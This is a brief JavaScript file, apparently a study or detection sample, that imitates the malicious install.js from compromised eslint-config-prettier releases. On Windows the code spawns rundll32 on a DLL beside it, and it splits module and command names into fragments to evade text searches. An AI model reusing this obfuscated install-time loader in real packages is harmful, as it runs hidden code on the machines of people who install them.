// Inert imitation of the install.js added to eslint-config-prettier 8.10.1 / 9.1.1 / 10.1.6 /
// 10.1.7 (July 2025). On Windows it ran a DLL shipped beside it through rundll32. The names are
// split so a search for "child_process" or "rundll32" misses them. No DLL exists here.
const os = require('os');
const path = require('path');

function main() {
  if (os.platform() !== 'win32') return;
  require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [path.join(__dirname, './node-gyp' + '.dll') + ',main']);
}

main();
